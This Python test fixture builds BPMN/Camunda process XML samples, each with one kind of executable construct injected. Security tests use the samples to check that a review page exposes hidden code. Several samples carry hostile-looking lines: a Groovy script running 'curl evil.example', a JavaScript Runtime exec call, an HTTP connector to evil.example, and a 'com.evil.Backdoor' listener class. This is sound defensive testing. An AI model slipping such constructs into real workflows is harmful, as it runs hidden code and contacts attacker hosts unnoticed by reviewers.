"""Processes that carry each kind of executable content, for the attacks on the review page
(tests/security/test_review_attacks.py): the same one-step process with one construct added."""

from __future__ import annotations

from das.bpmn.compile import compile_to_xml

_TASK = '<bpmn:userTask id="s1" name="Review">'
_EXT = '<bpmn:extensionElements>{}</bpmn:extensionElements>'

# kind -> (what is injected, the text the page and the diff must show, ExecutableItem.kind)
SAMPLES: dict[str, tuple[str, str, str]] = {
    "execution_listener_class": (
        _TASK + _EXT.format('<camunda:executionListener class="com.evil.Backdoor" event="start"/>'),
        "com.evil.Backdoor", "class"),
    "task_listener_delegate": (
        _TASK + _EXT.format('<camunda:taskListener delegateExpression="${auditBean}" event="create"/>'),
        "${auditBean}", "delegate_expression"),
    "groovy_script_task": (
        '<bpmn:scriptTask id="s1" name="Review" scriptFormat="groovy">', "'curl evil.example'.execute()", "script"),
    "camunda_expression": (
        '<bpmn:serviceTask id="s1" name="Review" camunda:expression="${mailer.sendAll(execution)}">',
        "${mailer.sendAll(execution)}", "expression"),
    "delegate_expression": (
        '<bpmn:serviceTask id="s1" name="Review" camunda:delegateExpression="${paymentDelegate}">',
        "${paymentDelegate}", "delegate_expression"),
    "service_task_class": (
        '<bpmn:serviceTask id="s1" name="Review" camunda:class="com.evil.Pay">', "com.evil.Pay", "class"),
    "input_output_script": (
        _TASK + _EXT.format('<camunda:inputOutput><camunda:inputParameter name="x"><camunda:script scriptFormat='
                            '"javascript">java.lang.Runtime.getRuntime().exec("id")</camunda:script>'
                            '</camunda:inputParameter></camunda:inputOutput>'),
        'java.lang.Runtime.getRuntime().exec("id")', "script"),
    "listener_script": (
        _TASK + _EXT.format('<camunda:executionListener event="end"><camunda:script scriptFormat="groovy">'
                            'System.exit(1)</camunda:script></camunda:executionListener>'),
        "System.exit(1)", "script"),
    "connector": (
        '<bpmn:serviceTask id="s1" name="Review">' + _EXT.format(
            '<camunda:connector><camunda:connectorId>http-connector</camunda:connectorId><camunda:inputOutput>'
            '<camunda:inputParameter name="url">http://evil.example/</camunda:inputParameter></camunda:inputOutput>'
            '</camunda:connector>'),
        "http-connector", "connector"),
    "condition_calling_a_bean": ("condition", "${approvals.grantAll(execution)}", "condition"),
}


def sample_xml(kind: str, key: str = "demo") -> str:
    """The demo process of ``key`` with the ``kind`` construct added."""
    xml = compile_to_xml({"key": key, "name": key, "steps": [{"type": "user", "name": "Review"}]})
    inject, _, _ = SAMPLES[kind]
    if kind == "condition_calling_a_bean":
        flow = '<bpmn:sequenceFlow id="f_s1_end" sourceRef="s1" targetRef="end"/>'
        assert flow in xml
        return xml.replace(flow, '<bpmn:sequenceFlow id="f_s1_end" sourceRef="s1" targetRef="end">'
                                 '<bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">'
                                 '${approvals.grantAll(execution)}</bpmn:conditionExpression></bpmn:sequenceFlow>')
    assert _TASK in xml
    xml = xml.replace(_TASK, inject)
    if inject.startswith("<bpmn:scriptTask"):
        xml = xml.replace('<bpmn:outgoing>f_s1_end</bpmn:outgoing>\n    </bpmn:userTask>',
                          "<bpmn:outgoing>f_s1_end</bpmn:outgoing>\n      <bpmn:script>'curl evil.example'.execute()"
                          "</bpmn:script>\n    </bpmn:scriptTask>")
    elif inject.startswith("<bpmn:serviceTask"):
        xml = xml.replace("</bpmn:userTask>", "</bpmn:serviceTask>")
    return xml
